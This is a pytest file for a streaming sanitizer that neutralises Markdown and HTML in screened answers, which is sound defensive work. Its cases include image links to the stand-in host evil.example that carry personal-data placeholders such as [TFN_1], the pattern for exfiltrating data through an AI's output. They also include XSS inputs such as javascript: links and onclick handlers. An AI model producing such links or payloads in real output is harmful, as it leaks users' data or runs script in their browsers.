"""What would make a browser fetch or run something is made harmless, and ordinary Markdown is left alone."""

from __future__ import annotations

from random import Random

import pytest

from auslex.screening.detectors.markdown import REPLACEMENTS
from auslex.screening.detectors.personal import ANSWER_SCANNERS
from auslex.screening.stream import RedactingStream, redacted
from tests.screening.cuts import cut

LONG = "d" * 80


def _replace(type: str, text: str) -> str | None:
    return REPLACEMENTS.get(type)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ![a b](https://evil.example/x.png) now", "see ![a b](#) now"),
        ("![x][1]\n\n[1]: https://evil.example/a", "![x][1]\n\n[1]: #"),
        (f"[more](https://evil.example/?q={LONG})", "[more](#)"),
        ("[go](javascript:alert)", "[go](#)"),
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("<IMG src=x>", "&lt;IMG src=x>"),
        ("[s 18](https://www.legislation.gov.au/C2010A00051) of the ACL", None),
        ("![chart](images/chart.png)", None),
        ("![x](\nhttps://evil.example/a)", "![x](\n#)"),
        ("![x](    https://evil.example/a)", "![x](    #)"),
        ("![x](/&sol;evil.example/a)", "![x](#)"),
        ("![x](/\\evil.example/a)", "![x](#)"),
        ("![[in](https://a.example/a)](https://evil.example/b)", "![[in](#)](#)"),
        (f"![{'a ' * 140}](https://evil.example/b)", f"![{'a ' * 140}](#)"),
        (f"![{'a ' * 400}](https://evil.example/b)", f"![{'a ' * 400}](#)"),
        ("[ a ![b\\]](https://evil.example/b)", "[ a ![b\\]](#)"),
        ("[1]:\nhttps://evil.example/a", "[1]:\n#"),
        ("[a](https://evil.example/?t=[TFN_1]) b", "[a](#) b"),
        ("see https://evil.example/[PERSON_2]/x now", "see # now"),
        ("<a href='https://evil.example/[TFN_1]'>", "<a href='#'>"),
        ("www.evil.example/[TFN_1]", "#"),
        ("write to [EMAIL_1] or mailto:[EMAIL_1] // [TFN_1]", None),
        ('<div style="background:url(//evil.example)">', '<div style&#61;"background:url(//evil.example)">'),
        ("<p title='>' onclick = alert(1)>", "<p title='>' onclick &#61; alert(1)>"),
        ('it\'s <a title="x" onfocus=go>', 'it\'s <a title="x" onfocus&#61;go>'),
        ('<a href="java&#115;cript:alert(1)">', '<a href&#61;"java&#115;cript:alert(1)">'),
        ('<a href=" java\nscript:alert(1)">', '<a href&#61;" java\nscript:alert(1)">'),
        ('<a href="https://www.austlii.edu.au/x">AustLII</a> <a href=/x>y</a>', None),
        ("style = 3 and src=4, it's <b>bold</b>", None),
        ("<body onload=x>", "&lt;body onload=x>"),
        ("if a < b and [2024] HCA 12 at [34]: yes", None),
        ("[email](mailto:registry@courts.gov.au)", None),
    ],
)
def test_markdown(text: str, expected: str | None) -> None:
    assert (expected or text) == redacted(text, _replace, ANSWER_SCANNERS)


UNSAFE = [
    "![x](\nhttps://evil.example/a) ",
    "![[in](https://a.example/a)](https://evil.example/b) ",
    "see https://evil.example/[PERSON_2]/x now ",
    f"[a](https://evil.example/{LONG}[TFN_1]{LONG * 8}) b ",
    f"https://evil.example/{LONG * 3}[TFN_1] ",
    "<p title='>' onclick = alert(1)> ",
    '<a href=" java\nscript:alert(1)"> ',
    f"![{'a ' * 140}](https://evil.example/b) ",
    "<a href='https://evil.example/[TFN_1]'> ",
]


@pytest.mark.parametrize("seed", range(200))
def test_unsafe_markdown_in_pieces_comes_out_as_the_whole(seed: int) -> None:
    chance = Random(seed)
    text = "".join(chance.choices(UNSAFE, k=4))
    stream = RedactingStream(_replace, ANSWER_SCANNERS)
    pieces = cut(text, chance) if seed % 2 else list(text)
    shown = "".join([*map(stream.feed, pieces), stream.close()])
    assert redacted(text, _replace, ANSWER_SCANNERS) == shown


@pytest.mark.parametrize("seed", range(40))
def test_a_stream_of_markdown_comes_out_as_the_whole(seed: int) -> None:
    chance = Random(seed)
    text = f"a ![b c](https://e.example/{LONG * chance.randint(0, 9)}) <iframe x> [d](https://f.example/?{LONG}) e"
    stream = RedactingStream(_replace, ANSWER_SCANNERS)
    shown = "".join([*map(stream.feed, cut(text, chance)), stream.close()])
    assert redacted(text, _replace, ANSWER_SCANNERS) == shown
